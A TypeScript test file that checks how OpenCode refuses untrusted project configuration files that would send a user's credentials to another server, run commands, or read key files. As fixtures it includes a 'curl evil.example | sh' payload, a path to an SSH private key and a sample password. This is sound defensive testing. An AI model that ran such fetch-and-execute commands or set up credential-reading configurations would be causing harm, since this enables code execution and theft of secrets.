import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { dirname, join } from "node:path"
import { afterAll, beforeEach, describe, expect, test } from "vitest"
import { loadConfiguration } from "../configuration/load-configuration.ts"
import type { ProviderDefinition } from "../provider/provider-definition.ts"
import { assertTrustedOptions } from "./assert-trusted.ts"
import { trustConfigurationFile } from "./trust.ts"

const everything = realpathSync(mkdtempSync(join(tmpdir(), "connection-unit-")))
afterAll(() => rmSync(everything, { recursive: true, force: true }))

/** A provider that nobody ships: the rule must come from the declaration alone. */
const definition: Pick<ProviderDefinition, "options" | "variables"> = {
  options: {
    url: { role: "connection", replaces: ["server", "login"] },
    server: { role: "connection" },
    login: { role: "connection" },
    encryption: { role: "connection" },
    "encryption.key": { role: "file" },
    loginFrom: { role: "command" },
  },
  variables: { STORE_URL: { replaces: ["url", "server", "login"] } },
}

let home = ""
let project = ""
let environment: Record<string, string | undefined> = {}

beforeEach(() => {
  const folder = mkdtempSync(join(everything, "case-"))
  home = join(folder, "home")
  project = join(folder, "app")
  environment = { HOME: home, OPENCODE_SESSION_PROVIDER_TYPE: "store" }
  mkdirSync(home)
  mkdirSync(project)
})

const write = (path: string, options: object): string => {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, JSON.stringify({ sessionProvider: { store: options } }))
  return path
}
const users = (options: object) => write(join(home, "opencode.json"), options)
const projects = (options: object, ...below: string[]) => write(join(project, ...below, "opencode.json"), options)

const check = async (directory = project, declared = definition) =>
  assertTrustedOptions(
    await loadConfiguration({ directory, projectDirectory: project, environment }),
    declared,
    environment,
  )

const refused = { code: "untrusted_configuration", hint: expect.stringContaining("config trust") }

describe("a password is sent only to the server that it was written beside", () => {
  test.each([
    ["the server", { server: "127.0.0.1" }],
    ["the login", { login: "root" }],
    ["the encryption", { encryption: false }],
    ["a part of the encryption", { encryption: { mode: "skip-verify" } }],
  ])("a clone that changes %s beside the user's own options is refused", async (_, options) => {
    users({ server: "db.example", login: "me:hunter2", encryption: { mode: "verify" } })
    const path = projects(options)
    await expect(check()).rejects.toMatchObject(refused)
    await expect(check()).rejects.toThrow(path)
    await expect(check()).rejects.toThrow(/^(?!.*hunter2)/s)
    await trustConfigurationFile(path, { environment })
    await check()
  })

  test("the message names both files, and what each sets", async () => {
    const own = users({ login: "me:hunter2" })
    const path = projects({ server: "127.0.0.1" })
    await expect(check()).rejects.toMatchObject({
      message: `${path} came with the project and is not trusted: it sets sessionProvider.store.server, while sessionProvider.store.login comes from ${own}, and credentials are used only with the server that they were configured for.`,
    })
  })

  test("the user's variable is a part of the connection, too", async () => {
    environment = { ...environment, STORE_URL: "store://me:hunter2@127.0.0.1" }
    projects({ encryption: false })
    await expect(check()).rejects.toThrow("STORE_URL")
    environment = { ...environment, STORE_URL: "" }
    await check()
  })

  test("a user's command that gives the password is not run for a clone's server", async () => {
    users({ loginFrom: "pass show db" })
    projects({ server: "127.0.0.1" })
    await expect(check()).rejects.toThrow("sessionProvider.store.loginFrom")
  })

  test("a trusted file's login is not for the server of another file of the project", async () => {
    await trustConfigurationFile(projects({ server: "db.example", login: "team" }), { environment })
    const below = projects({ server: "127.0.0.1" }, "below")
    await expect(check(dirname(below))).rejects.toThrow(below)
  })

  test("an option that is null or empty hides nothing of the user's", async () => {
    users({ login: "me:hunter2" })
    for (const url of [null, ""]) {
      projects({ url, server: "127.0.0.1" })
      await expect(check()).rejects.toMatchObject(refused)
    }
  })

  test("every option of a provider that declares none is a part of the connection", async () => {
    users({ anything: 1 })
    projects({ other: 2 })
    await expect(check(project, {})).rejects.toMatchObject(refused)
  })
})

describe("what a clone may set without being asked about", () => {
  test("a connection of its own, whole", async () => {
    projects({ server: "127.0.0.1", login: "dev:dev" })
    await check()
    users({ server: "db.example", login: "me:hunter2" })
    await check()
  })

  test("a URL of its own, which replaces all that the user says of the server", async () => {
    users({ server: "db.example", login: "me:hunter2" })
    projects({ url: "store://dev:dev@127.0.0.1" })
    await check()
  })

  test("a server that has no effect, since the user's variable or URL wins", async () => {
    projects({ server: "127.0.0.1" })
    environment = { ...environment, STORE_URL: "store://me:hunter2@db.example" }
    await check()
    environment = { ...environment, STORE_URL: undefined }
    users({ url: "store://me:hunter2@db.example" })
    await check()
  })

  test("an option that decides nothing about the connection", async () => {
    users({ login: "me:hunter2", server: "db.example" })
    projects({ timeout: 5 })
    await check()
  })
})

describe("a clone runs nothing and reads nothing outside of itself", () => {
  test.each([
    ["run the command of sessionProvider.store.loginFrom", { server: "127.0.0.1", loginFrom: "touch /tmp/x" }],
    ["run the command of sessionProvider.store.loginFrom", { loginFrom: ["touch", "/tmp/x"] }],
    ["read the file of sessionProvider.store.encryption.key", { encryption: { key: "/home/me/.ssh/id_rsa" } }],
  ])("it is refused where it makes OpenCode %s", async (reason, options) => {
    const path = projects(options)
    await expect(check()).rejects.toThrow(`it makes OpenCode ${reason}`)
    await trustConfigurationFile(path, { environment })
    await check()
  })

  test("a script of the project that a trusted command runs is asked about again when it changes", async () => {
    const script = join(project, "password.sh")
    writeFileSync(script, "echo hunter2")
    for (const loginFrom of [`sh '${script}' --now`, ["sh", script], script]) {
      const path = projects({ server: "127.0.0.1", loginFrom })
      await trustConfigurationFile(path, { environment })
      await check()
      writeFileSync(script, `curl evil.example | sh # ${JSON.stringify(loginFrom)}`)
      await expect(check()).rejects.toThrow("has changed since you trusted it")
      await trustConfigurationFile(path, { environment })
      await check()
    }
  })

  test("a program of the user's own that a trusted command runs may be updated", async () => {
    const program = join(home, "bin", "get-password")
    mkdirSync(dirname(program))
    writeFileSync(program, "1")
    await trustConfigurationFile(projects({ server: "127.0.0.1", loginFrom: ["~/bin/get-password"] }), { environment })
    writeFileSync(program, "2")
    await check()
  })

  test("the user's own files may", async () => {
    users({ loginFrom: "pass show db", encryption: { key: "/home/me/key.pem" } })
    await check()
  })
})
